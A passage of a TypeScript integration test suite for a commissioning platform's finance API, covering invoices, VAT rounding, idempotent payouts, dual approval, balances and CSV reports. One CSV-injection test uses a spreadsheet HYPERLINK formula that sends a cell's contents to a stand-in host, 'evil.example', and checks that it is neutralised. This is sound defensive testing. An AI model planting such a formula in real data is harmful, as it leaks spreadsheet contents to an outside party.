import type { Response } from 'supertest';
import { addMember, bearer, type Actor } from '../factories';
import {
  activeContract,
  briefBody,
  createBroadcaster,
  createStudio,
  deliverAndAccept,
  publishBrief,
  submitBid,
  waitUntilPast,
  type Broadcaster,
  type Studio,
} from '../factories/commissioning';
import { API, eventually, startApp, type TestApp } from '../utils/app';
import { expectProblem } from '../utils/expect';
import { notificationsOf } from '../utils/notifications';

const VAT_RATE = 12;
// Milestones of 30/30/40 % of 100 000 000.20 KZT: 3 000 000 006, 3 000 000 006 and 4 000 000 008
// tiyn, whose 12 % VAT (360 000 000.72 and 480 000 000.96) must be rounded, not truncated.
const PRICE = 100_000_000_20;
// Between the totals of a 30 % invoice (3 360 000 007) and of the 40 % one (4 480 000 009).
const THRESHOLD = 4_000_000_000;
const STUDIO_NAME = 'Студия "Қазақ", ТОО';

interface Money {
  amount: number;
  currency: string;
}
interface Invoice {
  id: string;
  contractId: string;
  milestoneId: string;
  studio: { id: string; name: string };
  broadcaster: { id: string; name: string };
  amount: Money;
  vat: Money;
  total: Money;
  status: string;
  issuedAt: string;
  paidAt: string | null;
}
interface Payout {
  id: string;
  studio: { id: string; name: string };
  invoiceIds: string[];
  amount: Money;
  status: string;
  createdBy: string;
  approvedBy: string | null;
  reference: string | null;
  paidAt: string | null;
}
interface Contract {
  contractId: string;
  milestones: { id: string; amount: { amount: number } }[];
}

/** RFC 4180: quoted fields may hold commas, line breaks and doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = (): void => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (ch === '"' && (quoted || field === '')) {
      quoted = !quoted;
    } else if (quoted || (ch !== ',' && ch !== '\r' && ch !== '\n')) {
      field += ch;
    } else if (ch === ',') {
      endField();
    } else {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      endField();
      rows.push(row);
      row = [];
    }
  }
  if (field !== '' || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

/** The body of a CSV response as UTF-8 (a malformed byte sequence throws), without a BOM. */
function csvOf(res: Response): string[][] {
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['cache-control']).toBe('no-store'); // money: never cached (bootstrap's default)
  const text = new TextDecoder('utf-8', { fatal: true }).decode(res.body as Buffer);
  return parseCsv(text);
}

const binary = (res: Response, done: (err: Error | null, body: Buffer) => void): void => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

const sum = (xs: number[]): number => xs.reduce((a, x) => a + x, 0);

describe('Finance', () => {
  let t: TestApp;
  let b: Broadcaster;
  let other: Broadcaster;
  let s1: Studio;
  let s2: Studio;
  let finance2: Actor;
  let c1: Contract;
  let c2: Contract;
  // C1's invoices in milestone order (30 %, 30 %, 40 %); C2's first two.
  let i1: Invoice[];
  let i2: Invoice[];

  const get = (path: string, who: Actor) =>
    t
      .http()
      .get(`${API}${path}`)
      .set(...bearer(who));
  const createPayout = (who: Actor, invoiceIds: string[], key?: string) => {
    const req = t
      .http()
      .post(`${API}/payouts`)
      .set(...bearer(who));
    if (key !== undefined) void req.set('Idempotency-Key', key);
    return req.send({ invoiceIds });
  };
  const approve = (who: Actor, id: string) =>
    t
      .http()
      .post(`${API}/payouts/${id}/approve`)
      .set(...bearer(who));
  const markPaid = (who: Actor, id: string, body: Record<string, unknown>) =>
    t
      .http()
      .post(`${API}/payouts/${id}/mark-paid`)
      .set(...bearer(who))
      .send(body);
  const invoicesOf = async (who: Actor, query = ''): Promise<Invoice[]> =>
    (await get(`/invoices?limit=100${query}`, who).expect(200)).body.items as Invoice[];

  /** activeContract with a chosen bid price. */
  async function pricedContract(s: Studio, price: number): Promise<Contract> {
    const body = briefBody({ closesIn: 2, questionsIn: 1 });
    const briefId = await publishBrief(t, b.commissioner, body);
    const bid = await submitBid(t, s.producer, briefId, price);
    await waitUntilPast(t, body.bidsCloseAt as string);
    const award = await t
      .http()
      .post(`${API}/briefs/${briefId}/award`)
      .set(...bearer(b.commissioner))
      .send({ bidId: bid.id })
      .expect(201);
    const contractId = award.body.contractId as string;
    const contract = await get(`/contracts/${contractId}`, b.commissioner).expect(200);
    for (const signer of [b.commissioner, s.producer]) {
      await t
        .http()
        .post(`${API}/contracts/${contractId}/sign`)
        .set(...bearer(signer))
        .send({ termsHash: contract.body.termsHash })
        .expect(200);
    }
    return { contractId, milestones: contract.body.milestones };
  }

  /** The contract's invoices (issued by the outbox handler), in milestone order. */
  async function invoicesFor(c: Contract, count: number): Promise<Invoice[]> {
    const list = await eventually(async () => {
      const items = (await invoicesOf(b.finance)).filter((i) => i.contractId === c.contractId);
      return items.length === count ? items : undefined;
    }, 20000);
    const order = c.milestones.map((m) => m.id);
    return list.sort((x, y) => order.indexOf(x.milestoneId) - order.indexOf(y.milestoneId));
  }

  beforeAll(async () => {
    t = await startApp({
      BRIEF_MIN_BID_WINDOW_SECONDS: '0',
      PAYOUT_DUAL_APPROVAL_THRESHOLD: String(THRESHOLD),
    });
    [b, other, s1, s2] = await Promise.all([
      createBroadcaster(t),
      createBroadcaster(t),
      createStudio(t, { genres: ['documentary'] }),
      createStudio(t, { genres: ['documentary'] }),
    ]);
    finance2 = await addMember(t, b.admin, 'finance');
    await t
      .http()
      .patch(`${API}/organisations/${b.admin.organisationId}`)
      .set(...bearer(b.admin))
      .send({ vatRate: VAT_RATE })
      .expect(200);
    await t
      .http()
      .patch(`${API}/organisations/${s1.admin.organisationId}`)
      .set(...bearer(s1.admin))
      .send({ name: STUDIO_NAME })
      .expect(200);
    [c1, c2] = await Promise.all([pricedContract(s1, PRICE), activeContract(t, b, s2)]);
    await Promise.all([
      (async () => {
        for (const m of c1.milestones) await deliverAndAccept(t, b, s1, m.id);
      })(),
      (async () => {
        for (const m of c2.milestones.slice(0, 2)) await deliverAndAccept(t, b, s2, m.id);
      })(),
    ]);
    i1 = await invoicesFor(c1, 3);
    i2 = await invoicesFor(c2, 2);
  });
  afterAll(() => t.close());

  describe('Invoices', () => {
    it("issues one invoice per accepted milestone, with VAT at the broadcaster's rate rounded to the tiyn", () => {
      expect(c1.milestones.map((m) => m.amount.amount)).toEqual([
        3_000_000_006, 3_000_000_006, 4_000_000_008,
      ]);
      for (const [c, invoices, studio] of [
        [c1, i1, s1],
        [c2, i2, s2],
      ] as const) {
        invoices.forEach((inv, n) => {
          const amount = c.milestones[n]!.amount.amount;
          const vat = Math.round((amount * VAT_RATE) / 100);
          expect(inv).toEqual({
            id: expect.any(String),
            contractId: c.contractId,
            milestoneId: c.milestones[n]!.id,
            studio: { id: studio.admin.organisationId, name: expect.any(String) },
            broadcaster: { id: b.admin.organisationId, name: expect.any(String) },
            amount: { amount, currency: 'KZT' },
            vat: { amount: vat, currency: 'KZT' },
            total: { amount: amount + vat, currency: 'KZT' },
            status: 'open',
            issuedAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T.*Z$/),
            paidAt: null,
          });
        });
      }
      // 360 000 000.72 rounds up: a truncating computation would say 360 000 000
      expect(i1[0]!.vat.amount).toBe(360_000_001);
      expect(i1[2]!.vat.amount).toBe(480_000_001);
      expect(i1[0]!.studio.name).toBe(STUDIO_NAME);
    });

    it("moves each invoiced milestone to 'invoiced'", async () => {
      const res = await get(`/contracts/${c1.contractId}/milestones`, s1.producer).expect(200);
      expect(res.body.items.map((m: { status: string }) => m.status)).toEqual([
        'invoiced',
        'invoiced',
        'invoiced',
      ]);
      const res2 = await get(`/contracts/${c2.contractId}/milestones`, b.commissioner).expect(200);
      expect(res2.body.items.map((m: { status: string }) => m.status)).toEqual([
        'invoiced',
        'invoiced',
        'pending',
      ]);
    });

    it("notifies the finance users of both parties with 'invoice.issued', and nobody else", async () => {
      const ids = i1.map((i) => i.id).sort();
      for (const who of [b.finance, finance2, s1.finance]) {
        await eventually(async () => {
          const got = (await notificationsOf(t, who))
            .filter((n) => n.type === 'invoice.issued')
            .map((n) => n.data.invoiceId as string);
          return ids.every((id) => got.includes(id));
        });
      }
      for (const who of [s1.producer, b.commissioner, s2.finance]) {
        const got = (await notificationsOf(t, who)).filter(
          (n) => n.type === 'invoice.issued' && ids.includes(n.data.invoiceId as string),
        );
        expect(got).toEqual([]);
      }
    });

    it('filters GET /invoices by status and studioId', async () => {
      const all = [...i1, ...i2].map((i) => i.id).sort();
      expect((await invoicesOf(b.finance, '&status=open')).map((i) => i.id).sort()).toEqual(all);
      expect(await invoicesOf(b.finance, '&status=paid')).toEqual([]);
      const ofS2 = await invoicesOf(b.finance, `&studioId=${s2.admin.organisationId}`);
      expect(ofS2.map((i) => i.id).sort()).toEqual(i2.map((i) => i.id).sort());
      expectProblem(await get('/invoices?status=void', b.finance), 400);
      expectProblem(await get('/invoices?studioId=not-a-uuid', b.finance), 400);
    });

    it('pages GET /invoices with limit and cursor, newest first, without overlap', async () => {
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const res = await get(`/invoices?limit=2${cursor ? `&cursor=${cursor}` : ''}`, b.finance).expect(200);
        expect(res.body.items.length).toBeLessThanOrEqual(2);
        seen.push(...res.body.items.map((i: Invoice) => i.id));
        cursor = res.body.nextCursor as string | null;
        pages++;
      } while (cursor && pages < 10);
      expect(pages).toBe(3);
      expect(seen).toHaveLength(5);
      expect([...seen].sort()).toEqual([...i1, ...i2].map((i) => i.id).sort());
      const whole = (await invoicesOf(b.finance)).map((i) => i.id);
      expect(seen).toEqual(whole);
    });

    it("shows a studio's finance the studio's own invoices only", async () => {
      expect((await invoicesOf(s1.finance)).map((i) => i.id).sort()).toEqual(i1.map((i) => i.id).sort());
      expect((await invoicesOf(s2.finance)).map((i) => i.id).sort()).toEqual(i2.map((i) => i.id).sort());
    });

    it('refuses commissioners and producers with 403', async () => {
      for (const who of [b.commissioner, s1.producer]) expectProblem(await get('/invoices', who), 403);
    });

    it("shows another organisation's finance none of them", async () => {
      expect(await invoicesOf(other.finance)).toEqual([]);
      expect(await invoicesOf(other.finance, `&studioId=${s1.admin.organisationId}`)).toEqual([]);
    });
  });

  describe('Payouts', () => {
    // P1 pays C1's first invoice (below the threshold), P2 the second (taken by one of 20 racers),
    // P3 the third (above the threshold: needs a second approver).
    let p1: Payout;
    let p2: Payout;
    let p3: Payout;

    describe('POST /payouts', () => {
      it('requires an Idempotency-Key, well formed', async () => {
        expectProblem(await createPayout(b.finance, [i1[0]!.id]), 400, 'IDEMPOTENCY_KEY_REQUIRED');
        expectProblem(await createPayout(b.finance, [i1[0]!.id], 'short'), 400, 'IDEMPOTENCY_KEY_REQUIRED');
        const { rows } = await t.db.query('SELECT 1 FROM payout_invoices WHERE invoice_id = $1', [i1[0]!.id]);
        expect(rows).toHaveLength(0);
      });

      it('replays the first response for the same key and body, marked Idempotent-Replayed', async () => {
        const first = await createPayout(b.finance, [i1[0]!.id], 'payout-key-0001');
        expect(first.status).toBe(201);
        expect(first.headers['idempotent-replayed']).toBeUndefined();
        expect(first.headers['cache-control']).toBe('no-store');
        p1 = first.body as Payout;
        for (let n = 0; n < 3; n++) {
          const again = await createPayout(b.finance, [i1[0]!.id], 'payout-key-0001');
          expect(again.status).toBe(201);
          expect(again.headers['idempotent-replayed']).toBe('true');
          expect(again.body).toEqual(first.body);
          expect(again.text).toBe(first.text);
        }
        const { rows } = await t.db.query('SELECT payout_id FROM payout_invoices WHERE invoice_id = $1', [
          i1[0]!.id,
        ]);
        expect(rows).toEqual([{ payout_id: p1.id }]);
      });

      it('refuses the same key with a different body with 422, and creates nothing for it', async () => {
        const res = await createPayout(b.finance, [i1[1]!.id], 'payout-key-0001');
        expectProblem(res, 422, 'IDEMPOTENCY_KEY_REUSED');
        const { rows } = await t.db.query('SELECT 1 FROM payout_invoices WHERE invoice_id = $1', [i1[1]!.id]);
        expect(rows).toHaveLength(0);
      });

      it('lets exactly one of 20 parallel payouts with distinct keys take an invoice; the rest get 409', async () => {
        const results = await Promise.all(
          Array.from({ length: 20 }, (_, n) => createPayout(b.finance, [i1[1]!.id], `race-key-${n}-abcdef`)),
        );
        const statuses = results.map((r) => r.status);
        expect(statuses.filter((s) => s >= 500)).toEqual([]);
        expect(statuses.filter((s) => s === 201)).toHaveLength(1);
        expect(statuses.filter((s) => s === 409)).toHaveLength(19);
        for (const r of results.filter((x) => x.status === 409)) expectProblem(r, 409, 'INVOICE_IN_PAYOUT');
        p2 = results.find((r) => r.status === 201)!.body as Payout;
        const { rows } = await t.db.query('SELECT payout_id FROM payout_invoices WHERE invoice_id = $1', [
          i1[1]!.id,
        ]);
        expect(rows).toEqual([{ payout_id: p2.id }]);
      });

      it('executes 20 parallel requests with the same key once, answering each with the same payout', async () => {
        const results = await Promise.all(
          Array.from({ length: 20 }, () => createPayout(b.finance, [i1[2]!.id], 'same-key-parallel-1')),
        );
        expect(results.map((r) => r.status)).toEqual(Array(20).fill(201));
        expect(new Set(results.map((r) => r.text)).size).toBe(1);
        expect(results.filter((r) => r.headers['idempotent-replayed'] === 'true')).toHaveLength(19);
        p3 = results[0]!.body as Payout;
        const { rows } = await t.db.query('SELECT payout_id FROM payout_invoices WHERE invoice_id = $1', [
          i1[2]!.id,
        ]);
        expect(rows).toEqual([{ payout_id: p3.id }]);
      });

      it("answers 404 for another broadcaster's invoice, even with a key that broadcaster used", async () => {
        // keys are scoped by organisation: another broadcaster's 'payout-key-0001' is not a replay of P1
        expectProblem(await createPayout(other.finance, [i1[0]!.id], 'payout-key-0001'), 404);
        expectProblem(await createPayout(other.finance, [i2[0]!.id], 'other-key-0001'), 404);
        const { rows } = await t.db.query('SELECT 1 FROM payout_invoices WHERE invoice_id = $1', [i2[0]!.id]);
        expect(rows).toHaveLength(0);
      });

      it('refuses invoices of two studios with 422 MIXED_PAYOUT', async () => {
        const res = await createPayout(b.finance, [i2[0]!.id, i1[0]!.id], 'mixed-key-0001');
        expectProblem(res, 422, 'MIXED_PAYOUT');
        const { rows } = await t.db.query('SELECT 1 FROM payout_invoices WHERE invoice_id = $1', [i2[0]!.id]);
        expect(rows).toHaveLength(0);
      });
    });

    describe('approval', () => {
      it('creates a payout at or below PAYOUT_DUAL_APPROVAL_THRESHOLD approved', () => {
        for (const [p, inv] of [
          [p1, i1[0]!],
          [p2, i1[1]!],
        ] as const) {
          expect(inv.total.amount).toBeLessThanOrEqual(THRESHOLD);
          expect(p).toMatchObject({
            studio: { id: s1.admin.organisationId, name: STUDIO_NAME },
            invoiceIds: [inv.id],
            amount: inv.total,
            status: 'approved',
            createdBy: b.finance.userId,
            reference: null,
            paidAt: null,
          });
        }
      });

      it("creates a payout above it pending approval, and asks the broadcaster's finance to approve", async () => {
        expect(i1[2]!.total.amount).toBeGreaterThan(THRESHOLD);
        expect(p3).toMatchObject({
          invoiceIds: [i1[2]!.id],
          amount: i1[2]!.total,
          status: 'pending_approval',
        });
        await eventually(async () =>
          (await notificationsOf(t, finance2)).some(
            (n) => n.type === 'payout.approval_needed' && n.data.payoutId === p3.id,
          ),
        );
        const { rows } = await t.db.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM notifications n JOIN users u ON u.id = n.user_id
            WHERE n.type = 'payout.approval_needed' AND n.data->>'payoutId' = $1 AND u.id = $2`,
          [p3.id, finance2.userId],
        );
        expect(rows[0]!.n).toBe(1);
        const studioSide = (await notificationsOf(t, s1.finance)).filter(
          (n) => n.type === 'payout.approval_needed',
        );
        expect(studioSide).toEqual([]);
      });

      it('refuses approval by the payout creator with 403 SECOND_APPROVER_REQUIRED', async () => {
        expectProblem(await approve(b.finance, p3.id), 403, 'SECOND_APPROVER_REQUIRED');
      });

      it('refuses mark-paid before approval with 409', async () => {
        const res = await markPaid(b.finance, p3.id, { reference: 'KZ-EARLY-1', paidAt: '2026-11-28' });
        expectProblem(res, 409, 'PAYOUT_STATE_CONFLICT');
      });

      it('accepts the approval of another finance user, once', async () => {
        const res = await approve(finance2, p3.id).expect(200);
        expect(res.body).toMatchObject({ id: p3.id, status: 'approved', approvedBy: finance2.userId });
        expectProblem(await approve(finance2, p3.id), 409, 'PAYOUT_STATE_CONFLICT');
        expectProblem(await approve(finance2, p1.id), 409, 'PAYOUT_STATE_CONFLICT');
      });
    });

    describe('POST /payouts/{id}/mark-paid', () => {
      it('refuses a paidAt that is neither a date nor an ISO 8601 time with a zone, or a missing reference, with 400', async () => {
        for (const paidAt of [
          '28.11.2026',
          '2026-02-30',
          '2026-13-01',
          20261128,
          '2026-11-28T10:00:00', // no zone: ambiguous
          '2026-11-28 10:00:00Z',
          '2026-11-28T25:00:00Z',
          '2026-02-30T10:00:00Z',
          '2026-11-28T10:00:00.1234Z',
          '2026-11-28Tnoon',
        ]) {
          expectProblem(await markPaid(b.finance, p1.id, { reference: 'KZ-BANK-1', paidAt }), 400);
        }
        expectProblem(await markPaid(b.finance, p1.id, { reference: '  ', paidAt: '2026-11-28' }), 400);
        expectProblem(await markPaid(b.finance, p1.id, { paidAt: '2026-11-28' }), 400);
        expect((await get(`/payouts/${p1.id}`, b.finance).expect(200)).body.status).toBe('approved');
      });

      it('marks the payout, its invoices and milestones paid, and tells the studio finance', async () => {
        const res = await markPaid(b.finance, p3.id, { reference: 'KZ-BANK-0003', paidAt: '2026-11-28' });
        expect(res.status).toBe(200);
        expect(res.body).toMatchObject({
          id: p3.id,
          status: 'paid',
          reference: 'KZ-BANK-0003',
          paidAt: '2026-11-28',
        });
        const paid = await invoicesOf(b.finance, '&status=paid');
        expect(paid.map((i) => i.id)).toEqual([i1[2]!.id]);
        expect(paid[0]!.paidAt).toEqual(expect.any(String));
        const milestones = await get(`/contracts/${c1.contractId}/milestones`, s1.producer).expect(200);
        expect(milestones.body.items.map((m: { status: string }) => m.status)).toEqual([
          'invoiced',
          'invoiced',
          'paid',
        ]);
        await eventually(async () =>
          (await notificationsOf(t, s1.finance)).some(
            (n) => n.type === 'payout.paid' && n.data.payoutId === p3.id,
          ),
        );
      });

      it('refuses to pay a payout twice, and the ledger holds one payment for it', async () => {
        const res = await markPaid(b.finance, p3.id, { reference: 'KZ-BANK-0003', paidAt: '2026-11-28' });
        expectProblem(res, 409, 'PAYOUT_STATE_CONFLICT');
        const again = await markPaid(b.finance, p3.id, { reference: 'KZ-BANK-9999', paidAt: '2026-11-29' });
        expectProblem(again, 409, 'PAYOUT_STATE_CONFLICT');
        const { rows } = await t.db.query<{ id: string; total: string }>(
          `SELECT t.id, sum(e.amount) FILTER (WHERE e.amount > 0)::text AS total
             FROM ledger_transactions t JOIN ledger_entries e ON e.transaction_id = t.id
            WHERE t.kind = 'payment' AND t.reference LIKE $1 GROUP BY t.id`,
          [`${p3.id}:%`],
        );
        expect(rows).toHaveLength(1);
        expect(Number(rows[0]!.total)).toBe(i1[2]!.total.amount);
        expect((await get(`/payouts/${p3.id}`, b.finance).expect(200)).body.reference).toBe('KZ-BANK-0003');
      });

      it('accepts paidAt as a full ISO 8601 time with an offset and shows it as ISO UTC', async () => {
        const res = await markPaid(b.finance, p1.id, {
          reference: 'KZ-BANK-0001',
          paidAt: '2026-11-27T15:30:00+05:00',
        }).expect(200);
        expect(res.body).toMatchObject({ id: p1.id, status: 'paid', paidAt: '2026-11-27T10:30:00.000Z' });
        expect((await get(`/payouts/${p1.id}`, b.finance).expect(200)).body.paidAt).toBe(
          '2026-11-27T10:30:00.000Z',
        );
        // Stored as given: the instant, and the day as written.
        const { rows } = await t.db.query<{ paid_on: string; paid_at: string }>(
          `SELECT paid_on::text, to_char(paid_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS') AS paid_at
             FROM payouts WHERE id = $1`,
          [p1.id],
        );
        expect(rows[0]).toEqual({ paid_on: '2026-11-27', paid_at: '2026-11-27T10:30:00' });
        const bare = await t.db.query<{ paid_at: string | null }>(
          'SELECT paid_at FROM payouts WHERE id = $1',
          [p3.id],
        );
        expect(bare.rows[0]!.paid_at).toBeNull();
      });

      it('refuses a payout for a paid invoice with 409', async () => {
        expectProblem(
          await createPayout(b.finance, [i1[0]!.id], 'paid-invoice-key-1'),
          409,
          'INVOICE_NOT_OPEN',
        );
        const { rows } = await t.db.query('SELECT payout_id FROM payout_invoices WHERE invoice_id = $1', [
          i1[0]!.id,
        ]);
        expect(rows).toEqual([{ payout_id: p1.id }]);
      });
    });

    describe('access', () => {
      it("lets the studio's finance read its payouts but not create, approve or pay them", async () => {
        const list = await get('/payouts?limit=100', s1.finance).expect(200);
        expect(list.body.items.map((p: Payout) => p.id).sort()).toEqual([p1.id, p2.id, p3.id].sort());
        expect((await get(`/payouts/${p2.id}`, s1.finance).expect(200)).body.status).toBe('approved');
        expectProblem(await createPayout(s1.finance, [i1[1]!.id], 'studio-key-0001'), 403);
        expectProblem(await approve(s1.finance, p2.id), 403);
        expectProblem(await markPaid(s1.finance, p2.id, { reference: 'X-1', paidAt: '2026-11-28' }), 403);
        expect((await get('/payouts?limit=100', s2.finance).expect(200)).body.items).toEqual([]);
        expectProblem(await get(`/payouts/${p2.id}`, s2.finance), 404);
      });

      it('refuses commissioners and producers on every payout route with 403', async () => {
        for (const who of [b.commissioner, s1.producer]) {
          expectProblem(await createPayout(who, [i1[1]!.id], 'commissioner-key-1'), 403);
          expectProblem(await approve(who, p2.id), 403);
          expectProblem(await markPaid(who, p2.id, { reference: 'X-1', paidAt: '2026-11-28' }), 403);
          expectProblem(await get('/payouts', who), 403);
          expectProblem(await get(`/payouts/${p2.id}`, who), 403);
        }
        expect((await get(`/payouts/${p2.id}`, b.finance).expect(200)).body.status).toBe('approved');
      });

      it("hides a broadcaster's payouts from another organisation's finance", async () => {
        expect((await get('/payouts?limit=100', other.finance).expect(200)).body.items).toEqual([]);
        for (const p of [p1, p2, p3]) expectProblem(await get(`/payouts/${p.id}`, other.finance), 404);
        expectProblem(await approve(other.finance, p2.id), 404);
        expectProblem(await markPaid(other.finance, p2.id, { reference: 'X-1', paidAt: '2026-11-28' }), 404);
      });
    });
  });

  describe('GET /contracts/{id}/balance', () => {
    it('reports committed, invoiced, paid and outstanding as Money to both parties', async () => {
      // C1: all three invoiced, the first and the third paid; C2: two invoiced, none paid
      const cases = [
        {
          c: c1,
          invoices: i1,
          paid: [i1[0]!, i1[2]!],
          parties: [b.finance, b.commissioner, s1.finance, s1.producer],
        },
        { c: c2, invoices: i2, paid: [], parties: [b.finance, s2.finance, s2.admin] },
      ];
      for (const { c, invoices, paid, parties } of cases) {
        const value = sum(c.milestones.map((m) => m.amount.amount));
        const invoiced = sum(invoices.map((i) => i.total.amount));
        const paidSum = sum(paid.map((i) => i.total.amount));
        const kzt = (amount: number) => ({ amount, currency: 'KZT' });
        for (const who of parties) {
          const res = await get(`/contracts/${c.contractId}/balance`, who).expect(200);
          expect(res.headers['cache-control']).toBe('no-store');
          expect(res.body).toEqual({
            committed: kzt(value),
            invoiced: kzt(invoiced),
            paid: kzt(paidSum),
            outstanding: kzt(invoiced - paidSum),
          });
        }
      }
    });

    it('answers 404 to another organisation', async () => {
      for (const who of [other.finance, other.admin, s2.finance]) {
        expectProblem(await get(`/contracts/${c1.contractId}/balance`, who), 404);
      }
      expectProblem(await get(`/contracts/${c2.contractId}/balance`, s1.finance), 404);
    });
  });

  describe('Finance reports', () => {
    const spend = (groupBy: string, who: Actor = b.finance) =>
      get(`/reports/finance/spend?groupBy=${groupBy}`, who);
    const allTotal = (): number => sum([...i1, ...i2].map((i) => i.total.amount));

    describe('GET /reports/finance/spend', () => {
      it('groups spend by studio, genre and month, summing to the invoice totals', async () => {
        const byStudio = await spend('studio').expect(200);
        expect(byStudio.body.groupBy).toBe('studio');
        const items = byStudio.body.items as {
          key: string;
          label: string;
          invoices: number;
          amount: Money;
        }[];
        expect(items).toHaveLength(2);
        expect(items).toEqual(
          expect.arrayContaining([
            {
              key: s1.admin.organisationId,
              label: STUDIO_NAME,
              invoices: 3,
              amount: { amount: sum(i1.map((i) => i.total.amount)), currency: 'KZT' },
            },
            {
              key: s2.admin.organisationId,
              label: expect.any(String),
              invoices: 2,
              amount: { amount: sum(i2.map((i) => i.total.amount)), currency: 'KZT' },
            },
          ]),
        );
        const byGenre = await spend('genre').expect(200);
        expect(byGenre.body.items).toEqual([
          {
            key: 'documentary',
            label: 'documentary',
            invoices: 5,
            amount: { amount: allTotal(), currency: 'KZT' },
          },
        ]);
        const byMonth = await spend('month').expect(200);
        const months = byMonth.body.items as { key: string; invoices: number; amount: Money }[];
        expect(months.every((m) => /^\d{4}-\d{2}$/.test(m.key))).toBe(true);
        expect(sum(months.map((m) => m.amount.amount))).toBe(allTotal());
        expect(sum(months.map((m) => m.invoices))).toBe(5);
        expect(months.map((m) => m.key)).toContain(i1[0]!.issuedAt.slice(0, 7));
      });

      it('refuses a missing or unknown groupBy with 400', async () => {
        expectProblem(await spend('quarter'), 400);
        expectProblem(await get('/reports/finance/spend', b.finance), 400);
      });

      it('answers text/csv with a header row and a correctly quoted UTF-8 studio name', async () => {
        const res = await spend('studio').set('Accept', 'text/csv').buffer(true).parse(binary);
        const rows = csvOf(res);
        const [header, ...data] = rows;
        expect(header!.map((h) => h.replace(/^\uFEFF/, ''))).toEqual([
          'studio',
          'label',
          'invoices',
          'amount',
          'currency',
        ]);
        expect(data).toHaveLength(2);
        const row = data.find((r) => r[0] === s1.admin.organisationId);
        expect(row).toEqual([
          s1.admin.organisationId,
          STUDIO_NAME,
          '3',
          String(sum(i1.map((i) => i.total.amount))),
          'KZT',
        ]);
        // RFC 4180: the cell is quoted and its quotes are doubled
        expect((res.body as Buffer).toString('utf8')).toContain('"Студия ""Қазақ"", ТОО"');
      });
    });

    describe('GET /reports/finance/payables', () => {
      beforeAll(async () => {
        // open invoices: C1's second (in an approved, unpaid payout) and C2's two
        await t.db.query(`UPDATE invoices SET issued_at = now() - interval '45 days' WHERE id = $1`, [
          i1[1]!.id,
        ]);
        await t.db.query(`UPDATE invoices SET issued_at = now() - interval '100 days' WHERE id = $1`, [
          i2[0]!.id,
        ]);
      });

      it('puts open invoices in ageing buckets per studio', async () => {
        const res = await get('/reports/finance/payables', b.finance).expect(200);
        expect(res.body.asOf).toEqual(expect.any(String));
        expect(res.body.items).toHaveLength(2);
        expect(res.body.items).toEqual(
          expect.arrayContaining([
            {
              studio: { id: s1.admin.organisationId, name: STUDIO_NAME },
              currency: 'KZT',
              days0to30: 0,
              days31to60: i1[1]!.total.amount,
              days61to90: 0,
              days90plus: 0,
              total: i1[1]!.total.amount,
            },
            {
              studio: { id: s2.admin.organisationId, name: expect.any(String) },
              currency: 'KZT',
              days0to30: i2[1]!.total.amount,
              days31to60: 0,
              days61to90: 0,
              days90plus: i2[0]!.total.amount,
              total: i2[0]!.total.amount + i2[1]!.total.amount,
            },
          ]),
        );
      });

      it('answers text/csv too', async () => {
        const res = await get('/reports/finance/payables', b.finance)
          .set('Accept', 'text/csv')
          .buffer(true)
          .parse(binary);
        const [header, ...data] = csvOf(res);
        expect(header!.map((h) => h.replace(/^\uFEFF/, ''))).toEqual([
          'studio_id',
          'studio',
          'currency',
          '0-30',
          '31-60',
          '61-90',
          '90+',
          'total',
        ]);
        expect(data).toHaveLength(2);
        const total = String(i1[1]!.total.amount);
        expect(data.find((r) => r[0] === s1.admin.organisationId)).toEqual([
          s1.admin.organisationId,
          STUDIO_NAME,
          'KZT',
          '0',
          total,
          '0',
          '0',
          total,
        ]);
      });
    });

    it('writes names and genres that a spreadsheet would run as formulas as text in both CSVs', async () => {
      const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Studio")';
      await t
        .http()
        .patch(`${API}/organisations/${s2.admin.organisationId}`)
        .set(...bearer(s2.admin))
        .send({ name: formula })
        .expect(200);
      await t.db.query(
        `UPDATE briefs SET genre = '-1-1' WHERE id = (SELECT brief_id FROM contracts WHERE id = $1)`,
        [c2.contractId],
      );
      const csv = async (path: string): Promise<string[][]> =>
        csvOf(await get(path, b.finance).set('Accept', 'text/csv').buffer(true).parse(binary));
      const byStudio = await csv('/reports/finance/spend?groupBy=studio');
      expect(byStudio.find((r) => r[0] === s2.admin.organisationId)?.[1]).toBe(`'${formula}`);
      const payables = await csv('/reports/finance/payables');
      expect(payables.find((r) => r[0] === s2.admin.organisationId)?.[1]).toBe(`'${formula}`);
      const byGenre = await csv('/reports/finance/spend?groupBy=genre');
      expect(byGenre.map((r) => r[0])).toContain("'-1-1");
      // amounts stay numbers a spreadsheet can add up
      expect(byGenre.slice(1).every((r) => /^\d+$/.test(r[3]!))).toBe(true);
    });

    it('refuses commissioners and studio finance with 403', async () => {
      for (const who of [b.commissioner, s1.finance, s1.producer]) {
        expectProblem(await spend('studio', who), 403);
        expectProblem(await get('/reports/finance/payables', who), 403);
        expectProblem(await get('/reports/finance/payables', who).set('Accept', 'text/csv'), 403);
      }
    });

    it("shows another broadcaster's finance an empty report", async () => {
      expect((await spend('studio', other.finance).expect(200)).body.items).toEqual([]);
      expect((await get('/reports/finance/payables', other.finance).expect(200)).body.items).toEqual([]);
    });
  });

  describe('Ledger, in the database', () => {
    const refused = async (
      sql: string,
      params: unknown[] = [],
    ): Promise<{ code?: string; constraint?: string; message: string }> => {
      const err = await t.db.query(sql, params).then(
        () => null,
        (e: { code?: string; constraint?: string; message: string }) => e,
      );
      expect(err).not.toBeNull();
      return err!;
    };

    it('refuses to UPDATE or DELETE a posted entry or transaction', async () => {
      const { rows } = await t.db.query<{ id: string; transaction_id: string; amount: string }>(
        'SELECT id, transaction_id, amount::text FROM ledger_entries ORDER BY id LIMIT 1',
      );
      const entry = rows[0]!;
